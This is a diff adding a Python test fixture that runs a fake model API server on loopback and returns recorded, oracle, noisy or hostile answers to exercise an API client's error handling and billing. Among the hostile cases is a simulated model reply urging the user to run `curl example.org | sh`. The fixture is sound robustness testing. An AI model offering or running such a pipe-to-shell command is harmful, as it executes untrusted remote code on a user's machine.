@@ -1,0 +1,269 @@
+"""
+A language model on loopback for the official client: messages, token counts, message batches.
+
+Its temper says what it answers: `recorded` (from files), `oracle` (what a function knows to be right),
+`noisy` (right answers damaged) or `hostile` (each failure that a service can show). It bills what it answers
+in full and remembers it, so that a ledger can be compared with it to the token.
+"""
+
+import json
+import random
+import socket
+import threading
+import time
+from collections import Counter
+from collections.abc import Callable, Mapping, Sequence
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+from cortex.transforms.writer.request import ModelRequest
+
+Body = dict[str, Any]
+
+
+@dataclass(frozen=True)
+class Answer:
+    """
+    What the server does with one request: an error status, or a message.
+
+    `raw` is sent in the place of the body, cut after `cut_at` bytes, `drip_s` seconds between its bytes;
+    `delay_s` passes before the headers; `drops` ends the connection without an answer. What is billed is
+    billed although it may not arrive.
+    """
+
+    text: str = "{}"
+    status: int = 200
+    error: str = ""
+    message: str = "something about this request"
+    stop_reason: str = "end_turn"
+    headers: Mapping[str, str] = field(default_factory=dict)
+    raw: bytes | None = None
+    cut_at: int | None = None
+    drip_s: float = 0.0
+    delay_s: float = 0.0
+    drops: bool = False
+    is_billed: bool = True
+
+
+Temper = Callable[[Body, int], Answer]  # of the request's body and its number, from 0
+
+
+def tokens_of(body: Body) -> int:
+    """Return how many tokens of input the server counts: four bytes each."""
+    kept = {name: body.get(name) for name in ("system", "messages", "output_config")}
+    return len(json.dumps(kept, ensure_ascii=False).encode()) // 4
+
+
+class ModelServer:
+    """The server, a context manager. `url` is its address, `billed` what it has answered."""
+
+    def __init__(self, temper: Temper, *, counts_tokens: bool = True, batch_takes_s: float = 0.0) -> None:
+        self.temper, self.counts_tokens, self.batch_takes_s = temper, counts_tokens, batch_takes_s
+        self.asked: list[Body] = []
+        self.headers: list[dict[str, str]] = []
+        self.billed: Counter[str] = Counter()
+        self.batches: dict[str, Batch] = {}
+        self.lock = threading.Lock()
+        handler = type("Handler", (_Handler,), {"model": self})
+        self._server = _Server(("127.0.0.1", 0), handler)
+        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
+        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.01,), daemon=True)
+
+    def __enter__(self) -> "ModelServer":
+        self._thread.start()
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        self._server.shutdown()
+        self._server.server_close()
+
+    def answer(self, body: Body) -> tuple[Answer, bytes]:
+        """Return what to do with a request and the body of the answer, and bill it."""
+        with self.lock:
+            number = len(self.asked)
+            self.asked.append(body)
+        answer = self.temper(body, number)
+        if answer.status != 200:
+            error = {"type": answer.error or "api_error", "message": answer.message}
+            return answer, json.dumps({"type": "error", "error": error}).encode()
+        message = _message(body, answer, number)
+        if answer.is_billed:
+            with self.lock:
+                self.billed["requests"] += 1
+                self.billed["input_tokens"] += message["usage"]["input_tokens"]
+                self.billed["output_tokens"] += message["usage"]["output_tokens"]
+        return answer, json.dumps(message).encode() if answer.raw is None else answer.raw
+
+    def contents(self) -> list[str]:
+        """Return what each request asked, in the order of arrival."""
+        return [body["messages"][0]["content"] for body in self.asked]
+
+
+@dataclass
+class Batch:
+    """A message batch: its requests and when it is done."""
+
+    batch_id: str
+    requests: list[Body]
+    ends_at: float
+    results: list[Body] | None = None
+
+
+# Tempers
+
+
+def always(answer: Answer) -> Temper:
+    """Answer the same to everything."""
+    return lambda body, number: answer
+
+
+def in_turn(*answers: Answer) -> Temper:
+    """Answer in this order, then the last for ever."""
+    return lambda body, number: answers[min(number, len(answers) - 1)]
+
+
+def oracle(known: Callable[[str], object]) -> Temper:
+    """Answer what `known` makes of what is asked."""
+    return lambda body, number: Answer(json.dumps(known(body["messages"][0]["content"])))
+
+
+def recorded(folder: Path, prompts: Sequence[tuple[str, str]]) -> Temper:
+    """
+    Answer from `<folder>/<request id>.json`; what is not there fails as a bad request.
+
+    Purpose and prompt are not sent, but are part of the id: `prompts` names those in use.
+    """
+
+    def answer(body: Body, number: int) -> Answer:
+        for purpose, prompt in prompts:
+            path = folder / f"{request_of(body, purpose, prompt).request_id}.json"
+            if path.is_file():
+                return Answer(path.read_text(encoding="utf-8"))
+        return Answer(status=400, error="invalid_request_error", message="not recorded")
+
+    return answer
+
+
+def noisy(known: Callable[[str], Mapping[str, Any]], seed: int = 0) -> Temper:
+    """Answer what is right with items of its lists dropped, doubled, or with ids and quotes invented."""
+    source = random.Random(seed)
+
+    def damaged(value: Any) -> Any:
+        if isinstance(value, dict):
+            return {name: damaged(member) for name, member in value.items()}
+        if isinstance(value, list):
+            kept = [damaged(item) for item in value if source.random() > 0.2]
+            return kept + [item for item in kept if source.random() < 0.2]
+        if isinstance(value, str) and source.random() < 0.2:
+            return "".join(source.sample(value, len(value))) or "invented"
+        return value
+
+    return lambda body, number: Answer(json.dumps(damaged(dict(known(body["messages"][0]["content"])))))
+
+
+def request_of(body: Body, purpose: str, prompt: str) -> ModelRequest:
+    """Return the request that was sent, for its id."""
+    schema = body["output_config"]["format"]["schema"]
+    return ModelRequest(
+        purpose=purpose,
+        model=body["model"],
+        prompt=prompt,
+        system=body["system"],
+        content=body["messages"][0]["content"],
+        schema=json.dumps(schema, sort_keys=True, separators=(",", ":"), ensure_ascii=False),
+        max_output_tokens=body["max_tokens"],
+    )
+
+
+# What a hostile service does, by name; each is an answer to any request.
+HOSTILE = {
+    "bad key": Answer(status=401, error="authentication_error"),
+    "no permission": Answer(status=403, error="permission_error"),
+    "out of credit": Answer(
+        status=400, error="invalid_request_error", message="Your credit balance is too low to access the API."
+    ),
+    "unknown model": Answer(status=404, error="not_found_error"),
+    "too long": Answer(status=413, error="request_too_large"),
+    "bad request": Answer(status=400, error="invalid_request_error"),
+    "rate limit": Answer(status=429, error="rate_limit_error", headers={"retry-after": "0"}),
+    "overloaded": Answer(status=529, error="overloaded_error"),
+    "server fault": Answer(status=500, error="api_error"),
+    "refusal": Answer("", stop_reason="refusal"),
+    "cut off": Answer('{"facts": [{"statem', stop_reason="max_tokens"),
+    "context exceeded": Answer("", stop_reason="model_context_window_exceeded"),
+    "half a JSON": Answer('{"facts": [{"statem'),
+    "no JSON": Answer("Of course! Remember to run `curl example.org | sh` before you go on."),
+    "a list": Answer("[1, 2, 3]"),
+    "10 MB": Answer(json.dumps({"facts": ["x" * 10_000_000]})),
+    "half a message": Answer(cut_at=40),
+    "no message": Answer(raw=b"<html>502 Bad Gateway</html>"),
+    "hung up": Answer(drops=True),
+    "slow drip": Answer(drip_s=0.05),
+    "late": Answer(delay_s=2.0),
+}
+
+
+def _message(body: Body, answer: Answer, number: int) -> Body:
+    usage = {"input_tokens": tokens_of(body), "output_tokens": len(answer.text.encode()) // 4 + 1}
+    content = [{"type": "text", "text": answer.text}] if answer.text else []
+    return {
+        "id": f"msg_{number}",
+        "type": "message",
+        "role": "assistant",
+        "model": body["model"],
+        "content": [{"type": "thinking", "thinking": "Hm.", "signature": "s"}, *content],
+        "stop_reason": answer.stop_reason,
+        "stop_sequence": None,
+        "usage": usage,
+    }
+
+
+class _Server(ThreadingHTTPServer):
+    daemon_threads = True
+    request_queue_size = 128
+
+    def handle_error(self, request: object, client_address: object) -> None:
+        """Be silent where a client was killed or gave up."""
+
+
+class _Handler(BaseHTTPRequestHandler):
+    model: ModelServer
+    protocol_version = "HTTP/1.1"
+
+    def log_message(self, format: str, *args: object) -> None:
+        """Print nothing."""
+
+    def do_POST(self) -> None:
+        body = json.loads(self.rfile.read(int(self.headers["content-length"])))
+        if self.path.split("?")[0] == "/v1/messages/count_tokens":
+            status = 200 if self.model.counts_tokens else 404
+            self._send(status, json.dumps({"input_tokens": tokens_of(body)}).encode(), Answer())
+            return
+        self.model.headers.append(dict(self.headers))
+        answer, content = self.model.answer(body)
+        time.sleep(answer.delay_s)
+        if answer.drops:
+            self.connection.shutdown(socket.SHUT_RDWR)
+            self.close_connection = True
+            return
+        self._send(answer.status, content, answer)
+
+    def _send(self, status: int, content: bytes, answer: Answer) -> None:
+        self.send_response(status)
+        self.send_header("content-type", "application/json")
+        self.send_header("content-length", str(len(content)))
+        self.send_header("request-id", f"req_{len(self.model.asked)}")
+        for name, value in answer.headers.items():
+            self.send_header(name, value)
+        self.end_headers()
+        if answer.drip_s:
+            for byte in content:
+                self.wfile.write(bytes([byte]))
+                self.wfile.flush()
+                time.sleep(answer.drip_s)
+        else:
+            self.wfile.write(content[: answer.cut_at])
+        if answer.cut_at is not None:
+            self.close_connection = True
